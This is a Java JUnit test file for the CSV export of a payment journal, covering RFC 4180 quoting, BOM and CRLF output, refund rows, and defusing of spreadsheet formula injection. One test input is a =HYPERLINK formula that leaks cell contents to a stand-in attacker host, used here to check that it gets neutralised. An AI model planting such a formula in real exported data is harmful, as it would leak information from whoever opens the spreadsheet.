package dev.kaikei.journal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

@DisplayName("CSV export")
class CsvExportTest extends JournalTestSupport {

    private static final String NASTY = "抹茶ラテ, \"特大\"\r\n2行目\nthird";

    @Test
    @DisplayName("is UTF-8 with BOM, CRLF, quoted where needed, with refunds as negative rows, and parses back")
    void roundTrip() throws Exception {
        journal.insertPayment(NewPayment.qr("m-1", 1500, NASTY, "店舗1", "till,1"));
        journal.transition("m-1", PaymentState.CREATING, PaymentChange.to(PaymentState.COMPLETED)
                .withPaypayPaymentId("pp-1").withPaypayStatus("COMPLETED").withRequestId("req-1")
                .withAcceptedAt(Instant.parse("2026-11-02T01:00:30Z")));
        clock.set(Instant.parse("2026-11-02T02:00:00Z"));
        OperationRecord refund = journal.insertOperation(NewOperation.refund("m-1", "r-1", 500, "返品 \"一部\""));
        journal.updateOperation(refund.id(), OperationState.PENDING, OperationChange.to(OperationState.SUCCEEDED)
                .withPaypayStatus("REFUNDED").withPayment(PaymentChange.to(PaymentState.PARTIALLY_REFUNDED)));
        journal.insertPayment(NewPayment.qr("m-2", 700, "plain", null, null));
        clock.set(Instant.parse("2026-11-03T02:00:00Z"));
        journal.insertPayment(NewPayment.qr("m-other-day", 900, null, null, null));

        ByteArrayOutputStream out = new ByteArrayOutputStream();
        int rows = journal.exportCsv(BusinessDay.of(Instant.parse("2026-11-02T01:00:00Z")).start(),
                BusinessDay.of(Instant.parse("2026-11-02T01:00:00Z")).end(), out);
        byte[] bytes = out.toByteArray();

        assertThat(rows).isEqualTo(3);
        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);
        assertThat(text).endsWith("\r\n");
        List<List<String>> parsed = parse(text);
        assertThat(parsed).hasSize(4);
        assertThat(parsed.get(0)).containsExactlyElementsOf(CsvExport.HEADER);
        assertThat(parsed.get(1)).containsExactly("2026-11-02T10:00:30+09:00", "m-1", "", "pp-1", "店舗1", "till,1",
                "QR", "PARTIALLY_REFUNDED", "COMPLETED", "1500", NASTY, "req-1", "PAYPAY", "", "", "", "", "");
        assertThat(parsed.get(2)).containsExactly("2026-11-02T11:00:00+09:00", "m-1", "r-1", "pp-1", "店舗1",
                "till,1", "REFUND", "SUCCEEDED", "REFUNDED", "-500", "返品 \"一部\"", "", "PAYPAY", "", "", "", "", "");
        assertThat(List.of(parsed.get(3).get(1), parsed.get(3).get(9))).containsExactly("m-2", "700");
    }

    @Test
    @DisplayName("only refunds PayPay confirmed are subtracted; the others are listed with their state and 0")
    void onlyConfirmedRefundsSubtract() throws Exception {
        clock.set(Instant.parse("2026-11-02T01:00:00Z"));
        for (String id : List.of("m-1", "m-2", "m-3")) {
            journal.insertPayment(NewPayment.qr(id, 1000, null, null, null));
            journal.transition(id, PaymentState.CREATING, PaymentChange.to(PaymentState.COMPLETED)
                    .withAcceptedAt(Instant.parse("2026-11-02T01:00:10Z")));
        }
        OperationState[] states = {OperationState.SUCCEEDED, OperationState.UNKNOWN, OperationState.REJECTED};
        for (int i = 0; i < states.length; i++) {
            OperationRecord r = journal.insertOperation(NewOperation.refund("m-" + (i + 1), "r-" + (i + 1), 400, null));
            journal.updateOperation(r.id(), OperationState.PENDING, OperationChange.to(states[i]));
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        BusinessDay day = BusinessDay.of(Instant.parse("2026-11-02T01:00:00Z"));
        journal.exportCsv(day.start(), day.end(), out);
        List<List<String>> refunds = parse(out.toString(StandardCharsets.UTF_8).substring(1)).stream()
                .filter(row -> row.get(6).equals("REFUND")).toList();
        assertThat(refunds).extracting(row -> row.get(2) + " " + row.get(7) + " " + row.get(9))
                .containsExactly("r-1 SUCCEEDED -400", "r-2 UNKNOWN 0", "r-3 REJECTED 0");
    }

    @Test
    @DisplayName("of business days goes to a file")
    void toFile() throws Exception {
        journal.insertPayment(NewPayment.qr("m-1", 1500, null, null, null));
        Path target = dir.resolve("exports/2026-11.csv");
        BusinessDay day = BusinessDay.today(clock);
        assertThat(journal.exportCsv(day, day, target)).isEqualTo(1);
        assertThat(parse(new String(Files.readAllBytes(target), StandardCharsets.UTF_8).substring(1))).hasSize(2);
    }

    @Test
    @DisplayName("escapes exactly the fields RFC 4180 requires")
    void escaping() {
        assertThat(CsvWriter.escape("plain 日本")).isEqualTo("plain 日本");
        assertThat(CsvWriter.escape("a,b")).isEqualTo("\"a,b\"");
        assertThat(CsvWriter.escape("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
        assertThat(CsvWriter.escape("a\rb")).isEqualTo("\"a\rb\"");
        assertThat(CsvWriter.escape("a\nb")).isEqualTo("\"a\nb\"");
        assertThat(CsvWriter.escape(null)).isEmpty();
    }

    @Test
    @DisplayName("defuses text a spreadsheet would run as a formula, keeps amounts and statuses plain, and parses back")
    void formulaInjection() throws Exception {
        String hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")";
        journal.insertPayment(NewPayment.qr("m-1", 1500, hyperlink, "@store", "-till"));
        journal.transition("m-1", PaymentState.CREATING, PaymentChange.to(PaymentState.COMPLETED)
                .withPaypayPaymentId("+pp").withPaypayStatus("COMPLETED")
                .withAcceptedAt(Instant.parse("2026-11-02T01:00:30Z")));
        clock.set(Instant.parse("2026-11-02T02:00:00Z"));
        OperationRecord refund = journal.insertOperation(NewOperation.refund("m-1", "r-1", 500, "@SUM(A1)"));
        journal.updateOperation(refund.id(), OperationState.PENDING, OperationChange.to(OperationState.SUCCEEDED)
                .withPaypayStatus("REFUNDED").withPayment(PaymentChange.to(PaymentState.PARTIALLY_REFUNDED)));
        journal.insertPayment(NewPayment.qr("m-2", 200, "+1+1", null, null));
        journal.insertPayment(NewPayment.qr("m-3", 300, "-2", null, null));
        journal.insertPayment(NewPayment.qr("m-4", 400, "\t=1+2", null, null));
        journal.insertPayment(NewPayment.qr("m-5", 500, "抹茶ラテ 1+1=2 -50円 a@b", null, null));

        ByteArrayOutputStream out = new ByteArrayOutputStream();
        BusinessDay day = BusinessDay.of(Instant.parse("2026-11-02T01:00:00Z"));
        assertThat(journal.exportCsv(day.start(), day.end(), out)).isEqualTo(6);
        byte[] bytes = out.toByteArray();
        assertThat(bytes).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(bytes, 3, bytes.length - 3, StandardCharsets.UTF_8);

        assertThat(text).contains(",\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\",");
        List<List<String>> parsed = parse(text);
        assertThat(parsed).hasSize(7);
        assertThat(parsed.get(0)).containsExactlyElementsOf(CsvExport.HEADER);
        assertThat(parsed.get(1)).containsExactly("2026-11-02T10:00:30+09:00", "m-1", "", "'+pp", "'@store",
                "'-till", "QR", "PARTIALLY_REFUNDED", "COMPLETED", "1500", "'" + hyperlink, "", "PAYPAY", "", "", "", "", "");
        assertThat(parsed.get(2)).containsExactly("2026-11-02T11:00:00+09:00", "m-1", "r-1", "'+pp", "'@store",
                "'-till", "REFUND", "SUCCEEDED", "REFUNDED", "-500", "'@SUM(A1)", "", "PAYPAY", "", "", "", "", "");
        assertThat(parsed.subList(3, 7)).extracting(r -> r.get(1), r -> r.get(9), r -> r.get(10)).containsExactly(
                tuple("m-2", "200", "'+1+1"), tuple("m-3", "300", "'-2"), tuple("m-4", "400", "'\t=1+2"),
                tuple("m-5", "500", "抹茶ラテ 1+1=2 -50円 a@b"));
    }

    @ParameterizedTest(name = "[{index}] {0}")
    @MethodSource("formulaStarts")
    @DisplayName("text cells starting like a formula get a leading quote, then RFC 4180 quoting as before")
    void textCells(String value, String written) {
        assertThat(CsvWriter.escape(CsvWriter.text(value).value())).isEqualTo(written);
    }

    static Stream<Arguments> formulaStarts() {
        return Stream.of(
                Arguments.of("=1+1", "'=1+1"),
                Arguments.of("+81 90", "'+81 90"),
                Arguments.of("-2", "'-2"),
                Arguments.of("@SUM(A1)", "'@SUM(A1)"),
                Arguments.of("\tcmd", "'\tcmd"),
                Arguments.of("\r=cmd", "\"'\r=cmd\""),
                Arguments.of("=A1,B1", "\"'=A1,B1\""),
                Arguments.of("=\"x\"", "\"'=\"\"x\"\"\""),
                Arguments.of("\uFF1D1+1", "'\uFF1D1+1"),
                Arguments.of("\uFF0B1", "'\uFF0B1"),
                Arguments.of("\uFF0D2", "'\uFF0D2"),
                Arguments.of("\uFF20SUM(A1)", "'\uFF20SUM(A1)"),
                Arguments.of("Coffee = 300", "Coffee = 300"),
                Arguments.of(" =1", " =1"),
                Arguments.of("'quoted", "'quoted"),
                Arguments.of("", ""),
                Arguments.of(null, ""));
    }

    @Test
    @DisplayName("numbers and app-made values are written unchanged, a negative amount included")
    void plainCells() {
        assertThat(CsvWriter.number(-500).value()).isEqualTo("-500");
        assertThat(CsvWriter.number(1500).value()).isEqualTo("1500");
        assertThat(CsvWriter.plain("2026-11-02T10:00:30+09:00").value()).isEqualTo("2026-11-02T10:00:30+09:00");
    }

    /** A strict RFC 4180 reader: records end with CRLF; quoted fields may hold anything with quotes doubled. */
    static List<List<String>> parse(String text) {
        List<List<String>> records = new ArrayList<>();
        List<String> record = new ArrayList<>();
        StringBuilder field = new StringBuilder();
        int i = 0;
        while (i < text.length()) {
            char ch = text.charAt(i);
            if (ch == '"' && field.length() == 0) {
                i++;
                while (true) {
                    char q = text.charAt(i);
                    if (q == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                        field.append('"');
                        i += 2;
                    } else if (q == '"') {
                        i++;
                        break;
                    } else {
                        field.append(q);
                        i++;
                    }
                }
            } else if (ch == ',') {
                record.add(field.toString());
                field.setLength(0);
                i++;
            } else if (ch == '\r') {
                assertThat(text.charAt(i + 1)).as("CR must be followed by LF").isEqualTo('\n');
                record.add(field.toString());
                field.setLength(0);
                records.add(record);
                record = new ArrayList<>();
                i += 2;
            } else {
                assertThat(ch).as("bare LF outside quotes").isNotEqualTo('\n');
                field.append(ch);
                i++;
            }
        }
        assertThat(record).as("trailing unterminated record").isEmpty();
        return records;
    }
}
